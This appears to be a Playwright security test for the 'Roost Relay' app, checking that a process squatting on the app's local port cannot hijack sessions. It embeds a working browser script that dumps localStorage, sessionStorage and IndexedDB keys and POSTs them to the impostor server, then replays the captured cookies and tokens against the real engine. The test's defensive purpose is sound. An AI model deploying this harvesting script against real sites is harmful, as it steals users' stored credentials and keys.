/** Another user of this PC, who takes the window's port over while the engine is down. */
import { createHash, createHmac } from 'node:crypto';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { startEngineProcess } from '../support/engine-process.ts';
import { expect, test } from './support/relay.ts';

// An engine is killed here, which a process of its own can be.
test.use({ ownProcess: true });

interface Heard {
  readonly method: string;
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body: string;
}

/** What a thief's page does: everything that this origin keeps, and every key that can be read, goes home. */
const loot = `<!doctype html><h1>Roost Relay</h1><script>
(async () => {
  const found = { storage: { ...localStorage, ...sessionStorage }, keys: [] };
  for (const { name } of await indexedDB.databases()) {
    const database = await new Promise((resolve) => {
      indexedDB.open(name).onsuccess = ({ target }) => resolve(target.result);
    });
    for (const store of database.objectStoreNames) {
      const kept = await new Promise((resolve) => {
        database.transaction(store).objectStore(store).getAll().onsuccess = ({ target }) => resolve(target.result);
      });
      for (const key of kept) {
        const read = await crypto.subtle.exportKey('raw', key).then((raw) => [...new Uint8Array(raw)], String);
        const signed = await crypto.subtle.sign('HMAC', key, new TextEncoder().encode('roost-relay window page'));
        found.keys.push({ read, signed: btoa(String.fromCharCode(...new Uint8Array(signed))) });
      }
    }
  }
  await fetch('/loot', { method: 'POST', body: JSON.stringify(found) });
  document.title = 'looted';
})();
</script>`;

/** Answers everything as the engine might, and keeps every byte. */
async function startStranger(port: number) {
  const heard: Heard[] = [];
  const hear = ({ method = '', url = '', rawHeaders }: IncomingMessage, body: string) => {
    const headers = Object.fromEntries(
      rawHeaders.flatMap((name, at) => (at % 2 === 0 ? [[name.toLowerCase(), rawHeaders[at + 1] ?? '']] : [])),
    );
    heard.push({ method, path: url, headers, body });
  };
  const secret = 'c'.repeat(43);
  const server = createServer((request, answer) => {
    const parts: Buffer[] = [];
    request.on('data', (part: Buffer) => parts.push(part));
    request.on('end', () => {
      hear(request, Buffer.concat(parts).toString());
      if (request.method === 'GET') return answer.setHeader('content-type', 'text/html').end(loot);
      return answer
        .setHeader('content-type', 'application/json')
        .end(JSON.stringify({ ok: true, value: null, channel: secret, proof: secret }));
    });
  });
  server.on('upgrade', (request, socket) => {
    const accept = createHash('sha1')
      .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest('base64');
    socket.on('error', () => {});
    socket.on('data', (frame: Buffer) => {
      // A short frame of a browser: two bytes, a mask of four, the text.
      const mask = frame.subarray(2, 6);
      hear(request, Buffer.from(frame.subarray(6).map((byte, at) => byte ^ (mask[at % 4] ?? 0))).toString());
    });
    hear(request, '');
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    heard,
    port: (server.address() as AddressInfo).port,
    async stop() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

test('a server that takes the port over gets nothing that opens a session later, not even by a page of its own', async ({
  page,
  relay,
}) => {
  await relay.open(page, '/settings');
  const { origin } = new URL(page.url());
  const port = Number(new URL(origin).port);
  const other = await page.context().newPage();
  await other.goto(origin);
  await expect(other.getByRole('heading', { level: 1 })).toBeVisible();

  await relay.engine.kill();
  const stranger = await startStranger(port);
  // The page that is open looks for its engine.
  await expect.poll(() => stranger.heard.length, { timeout: 30_000 }).toBeGreaterThan(2);
  await other.reload();
  await expect(other).toHaveTitle('looted');
  await other.close();
  expect(stranger.heard.map(({ path }) => path)).toContain('/loot');
  await stranger.stop();

  await using engine = await startEngineProcess({ dataFolder: relay.dataFolder, window: port, withinMs: 45_000 });
  await expect.poll(() => engine.output(), { timeout: 15_000 }).toContain('/open?token=');
  // All that it heard, said again.
  for (const { method, path, headers, body } of stranger.heard) {
    // The window's own files are anybody's, and hold nothing of the property; a page may ask for one ahead of its need.
    if (path.startsWith('/assets/')) continue;
    const { connection: _c, upgrade: _u, 'content-length': _l, ...rest } = headers;
    const answer = await fetch(origin + path, { method, headers: rest, ...(method === 'POST' ? { body } : {}) });
    const text = await answer.text();
    if (path === '/' || path.startsWith('/session/meet')) expect(text).not.toMatch(/"ok":true|prop_baybreeze/);
    else expect([path, answer.status]).not.toEqual([path, 200]);
  }
  // What looks like a key in it, used as one.
  const all = JSON.stringify(stranger.heard);
  const cookie = stranger.heard.find(({ headers }) => headers.cookie !== undefined)?.headers.cookie ?? '';
  expect(cookie).toContain('roost_relay_');
  const challenge = 'A'.repeat(43);
  const meet = await fetch(`${origin}/session/meet?challenge=${challenge}`, { method: 'POST', headers: { cookie } });
  const { channel } = (await meet.json()) as { channel: string };
  const words = new Set(all.match(/[\w-]{43}/g));
  expect(words.size).toBeGreaterThan(0);
  for (const key of [...words, channel]) {
    const code = createHmac('sha256', key)
      .update(`roost-relay window page ${origin} ${channel} 1 POST /api/settings.get\n{}`)
      .digest('base64url');
    for (const shown of [key, `${channel}.1.${code}`, `${channel}.1.${key}`]) {
      const answer = await fetch(`${origin}/api/settings.get`, {
        method: 'POST',
        headers: { cookie, 'x-roost-relay': shown, 'content-type': 'application/json' },
        body: '{}',
      });
      expect(answer.status).toBe(401);
    }
  }
  // The page that stayed open is its engine's again, without a new address.
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await relay.go(page, '/sources');
  await expect(page.getByRole('region', { name: 'Status' })).toContainText('Nothing waiting · online');
  await page.reload();
  await expect(page.getByRole('region', { name: 'Status' })).toContainText('Nothing waiting · online');
});
